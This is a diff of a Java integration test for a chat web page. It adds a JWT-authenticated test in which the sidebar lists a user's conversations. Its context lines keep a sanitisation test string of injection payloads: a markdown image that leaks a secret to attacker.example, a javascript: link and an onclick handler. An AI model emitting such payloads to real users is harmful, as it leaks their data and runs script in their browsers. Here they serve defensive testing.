@@ -54,6 +54,9 @@ class ChatPageIT {
             + "![pixel](https://attacker.example/leak.png?q=secret) ![x](javascript:window.__pwned=10)\n\n"
             + "<details open><summary>s</summary><p onclick=\"window.__pwned=11\">p</p></details>\n\n";
 
+    private static final String ISSUER = "https://issuer.chat-ws.test";
+    private static final java.security.KeyPair KEYS = AuthIT.rsa();
+
     @ArquillianResource
     Deployer deployer;
 
@@ -61,7 +64,9 @@ class ChatPageIT {
 
     @Deployment(name = NAME, managed = false, testable = false)
     static WebArchive deployment() {
-        return Deployments.simulated(NAME, "chat.simulator.tokens-per-second=400", "chat.simulator.first-token-delay=0");
+        return Deployments.simulated(NAME, "chat.simulator.tokens-per-second=400", "chat.simulator.first-token-delay=0",
+                "mp.jwt.verify.publickey=" + java.util.Base64.getEncoder().encodeToString(KEYS.getPublic().getEncoded()),
+                "mp.jwt.verify.issuer=" + ISSUER);
     }
 
     @BeforeEach
@@ -175,6 +180,30 @@ class ChatPageIT {
         page.wait.until(b -> sidebarTitles().size() == 1);
         assertEquals(404, ChatClient.http("GET", URI.create(PAGE).resolve("api/conversations/" + second), null, null).statusCode(), "deleted on the server");
         assertEquals(200, ChatClient.http("GET", api, null, null).statusCode(), "the other one is kept");
+    }
+
+    @Test
+    void withATokenTheSidebarListsTheUsersConversationsFromTheApi() throws Exception {
+        String token = AuthIT.token("pia-page-" + System.nanoTime(), ISSUER, KEYS.getPrivate(), 600);
+        for (String said : List.of("pia one", "pia two")) {
+            try (ChatClient client = ChatClient.connect(URI.create(PAGE), null, Map.of("Authorization", "Bearer " + token))) {
+                client.nextJson();
+                ConversationStoreIT.turn(client, said);
+            }
+        }
+        page.type("an anonymous chat of this browser");
+        page.awaitAnswer();
+        // As a portal does: the token provider is set before the component joins the page.
+        page.script("const el = document.createElement('chat-ws'); el.setAttribute('sidebar', ''); el.setAttribute('storage-key', 'pia');"
+                + " el.tokenProvider = async () => arguments[0]; document.querySelector('chat-ws').replaceWith(el);", token);
+        page.waitForStatus("Connected");
+        page.wait.until(b -> sidebarTitles().size() == 2);
+        page.shadow().findElements(By.cssSelector("nav li")).get(1).findElement(By.cssSelector(".open")).click();
+        page.wait.until(b -> page.userTexts().equals(List.of("pia one")));
+        page.type("pia three");
+        page.awaitAnswer();
+        page.wait.until(b -> PageDriver.settled(() -> page.shadow().findElements(By.cssSelector("nav li .open[aria-current]")).size() == 1
+                && page.shadow().findElements(By.cssSelector("nav li")).size() == 2));
     }
 
     @Test
